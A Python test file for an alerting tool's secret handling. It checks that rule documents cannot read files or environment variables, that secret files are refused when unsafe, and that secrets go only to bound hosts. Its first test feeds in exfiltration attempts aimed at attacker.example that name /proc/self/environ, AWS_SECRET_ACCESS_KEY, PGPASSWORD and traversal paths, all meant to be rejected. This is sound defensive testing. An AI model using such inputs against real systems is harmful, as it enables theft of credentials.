"""Secrets of a worker: F3, what a rule author can reach, and where a value may be sent."""

from __future__ import annotations

import asyncio
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from rules.delivery.deliver import deliver
from rules.delivery.egress import Egress
from rules.delivery.message import Message
from rules.delivery.outcome import DeliveryOutcome
from rules.delivery.secret_store import SecretStore
from rules.delivery.secrets import Secrets
from rules.documents.load import RulesInvalid, load_text
from schemas.documents.targets import WebhookTarget
from tests.rules.delivery.receivers import receiver
from tocsin.core.errors import InvalidInput
from tocsin.core.secret_bindings import SecretBinding, parse_bindings
from tocsin.core.settings import Settings, credentials_of, forget_credentials

NOW = datetime(2026, 11, 17, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("reference", "remedy"),
    [
        (
            "{file: /proc/self/environ}",
            "write {secret: environ}, and put the file 'environ' into TOCSIN_SECRETS_DIR",
        ),
        (
            "{file: /run/secrets/smtp.txt}",
            "write {secret: smtp}, and put the file 'smtp' into TOCSIN_SECRETS_DIR",
        ),
        (
            "{env: AWS_SECRET_ACCESS_KEY}",
            "write {secret: aws-secret-access-key}, and set TOCSIN_SECRET_AWS_SECRET_ACC",
        ),
        ("{env: PGPASSWORD}", "write {secret: pgpassword}, and set TOCSIN_SECRET_PGPASSWORD for the worker"),
        ("{secret: ../smtp}", "'secret' must be a name"),
        ("{secret: /etc/passwd}", "'secret' must be a name"),
        ("{secret: TOCSIN_POSTGRES}", "'secret' must be a name"),
    ],
)
def test_a_document_cannot_name_a_file_or_a_variable(reference: str, remedy: str) -> None:
    text = (
        "channel: {name: x, email: {smtp: {host: attacker.example, username: x, password: "
        f"{reference}}}, from: a@b.example, to: [c@d.example]}}}}"
    )
    with pytest.raises(RulesInvalid) as refused:
        load_text(text)
    assert remedy in str(refused.value)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    path = tmp_path / "secrets"
    path.mkdir(mode=0o700)
    return path


def put(folder: Path, name: str, value: str | bytes, mode: int = 0o600) -> Path:
    path = folder / name
    path.write_bytes(value.encode() if isinstance(value, str) else value)
    path.chmod(mode)
    return path


async def test_a_secret_is_read_from_its_folders_and_then_from_its_variable(
    folder: Path, tmp_path: Path
) -> None:
    credentials = tmp_path / "credentials"
    credentials.mkdir(mode=0o500)
    credentials.chmod(0o700)
    store = SecretStore((folder, credentials), {"TOCSIN_SECRET_SLACK_URL": "by-variable"})
    assert await store.read("slack-url") == "by-variable"
    put(credentials, "slack-url", "by-systemd\n", 0o400)
    assert await store.read("slack-url") == "by-systemd"
    put(folder, "slack-url", "by-file\r\n")
    assert await store.read("slack-url") == "by-file"


async def test_only_regular_files_that_others_cannot_change_are_read(folder: Path, tmp_path: Path) -> None:
    outside = put(tmp_path, "outside", "S3cret")
    (folder / "link").symlink_to(outside)
    os.mkfifo(folder / "pipe", 0o600)
    (folder / "directory").mkdir()
    put(folder, "shared", "S3cret", 0o660)
    put(folder, "open", "S3cret", 0o644)
    put(folder, "large", "x" * 65_537)
    put(folder, "binary", b"\xff\xfe")
    put(folder, "empty", "\n")
    store = SecretStore((folder,))
    for name, said in (
        ("link", "cannot be read: too many levels of symbolic links"),
        ("pipe", "is not a regular file"),
        ("directory", "is not a regular file"),
        ("shared", "can be written by others: chmod go-w"),
        ("large", "is larger than 65536 bytes"),
        ("binary", "is not text in UTF-8"),
        ("empty", "is empty"),
        ("missing", "put the file 'missing' into its TOCSIN_SECRETS_DIR, or set TOCSIN_SECRET_MISSING"),
        ("../outside", "is not the name of a secret"),
    ):
        async with asyncio.timeout(10):  # a pipe without a writer must not be waited for
            with pytest.raises(InvalidInput) as refused:
                await store.read(name)
        assert said in str(refused.value)
        assert "S3cret" not in str(refused.value)


async def test_a_file_of_another_user_is_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = put(folder, "foreign", "S3cret")
    if os.geteuid() == 0:
        os.chown(path, 1, 1)
    else:
        monkeypatch.setattr("os.geteuid", lambda: 4_711)
    with pytest.raises(InvalidInput, match="belongs to the user"):
        await SecretStore((folder,)).read("foreign")


@pytest.fixture
def shared_folder(folder: Path) -> Path:
    put(folder, "token", "S3cret")
    folder.chmod(0o777)
    return folder


async def test_a_folder_that_others_can_write_is_refused(shared_folder: Path) -> None:
    with pytest.raises(InvalidInput, match="can be written by others"):
        await SecretStore((shared_folder,)).read("token")


async def send(
    egress: Egress, store: SecretStore, url: Any, channel: str = "", **headers: Any
) -> DeliveryOutcome:
    target = WebhookTarget.model_validate({"url": url, "headers": headers})
    secrets = Secrets(store, channel)
    return await deliver(egress, target, Message("a", "b"), key="k", now=NOW, secrets=secrets)


async def test_a_secret_is_not_sent_to_a_host_that_it_is_not_bound_to(egress: Egress) -> None:
    """F3: an author names the token of another team, and a server of their own."""
    values = {
        "TOCSIN_SECRET_TOKEN": "S3cret-token",
        "TOCSIN_SECRET_SLACK": "https://hooks.slack.com/services/T0/S3cret",
    }
    bindings = parse_bindings("token@tickets.example.com")
    async with receiver() as server:
        for name, said in (
            ("token", "the secret 'token' may not be sent to 127.0.0.1: add token@127.0.0.1"),
            ("slack", "the secret 'slack' is a url and is sent to its own host only, not to 127.0.0.1"),
        ):
            store = SecretStore(variables=values, bindings=bindings)
            outcome = await send(egress, store, f"http://127.0.0.1:{server.port}/", X={"secret": name})
            assert outcome.state == "permanent"
            assert outcome.text.startswith(said)
        assert server.requests == []
        store = SecretStore(variables=values, bindings=parse_bindings("token@127.0.0.1"))
        assert (
            await send(egress, store, f"http://127.0.0.1:{server.port}/", X={"secret": "token"})
        ).state == "delivered"
        assert server.only.headers["x"] == "S3cret-token"


async def test_a_secret_can_be_bound_to_a_channel(egress: Egress) -> None:
    async with receiver() as server:
        store = SecretStore(
            variables={"TOCSIN_SECRET_HOOK": f"http://127.0.0.1:{server.port}/"},
            bindings=(SecretBinding("hook", "127.0.0.1", "ops"),),
        )
        refused = await send(egress, store, {"secret": "hook"}, channel="sales")
        assert refused.text.startswith(
            "the secret 'hook' may not be sent to 127.0.0.1 by the channel 'sales'"
        )
        assert (await send(egress, store, {"secret": "hook"})).state == "permanent"
        assert (await send(egress, store, {"secret": "hook"}, channel="ops")).state == "delivered"


async def test_the_folder_may_hold_the_bindings(folder: Path) -> None:
    put(folder, "bindings", "# who may receive what\ntoken@a.example\ntoken@b.example/ops\n")
    store = SecretStore((folder,))
    await store.check_use("token", "x", "A.example", "")
    await store.check_use("token", "x", "b.example", "ops")
    with pytest.raises(InvalidInput, match="may not be sent"):
        await store.check_use("token", "x", "b.example", "sales")


def test_a_wrong_binding_is_rejected() -> None:
    for text in ("token", "token@", "@host", "TOKEN@host", "token@a/b/c"):
        with pytest.raises(InvalidInput, match="is not a binding of a secret"):
            parse_bindings(text)
    assert parse_bindings(" a@b, c@*/d ") == (SecretBinding("a", "b"), SecretBinding("c", "*", "d"))


def test_the_environment_of_the_process_loses_its_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOCSIN_POSTGRES", "postgresql://u:S3cretDb@db/x")
    monkeypatch.setenv("TOCSIN_SECRET_SMTP", "S3cretSmtp")
    monkeypatch.setenv("TOCSIN_NAMESPACE", "kept")
    settings = Settings()
    forget_credentials()
    assert "TOCSIN_POSTGRES" not in os.environ
    assert "TOCSIN_SECRET_SMTP" not in os.environ
    assert os.environ["TOCSIN_NAMESPACE"] == "kept"
    assert settings.secret_variables == {"TOCSIN_SECRET_SMTP": "S3cretSmtp"}
    assert {"S3cretDb", "S3cretSmtp"} <= credentials_of(settings)
    assert "S3cret" not in repr(settings)
    assert settings.model_copy(update={"namespace": "x"}).secret_variables == settings.secret_variables
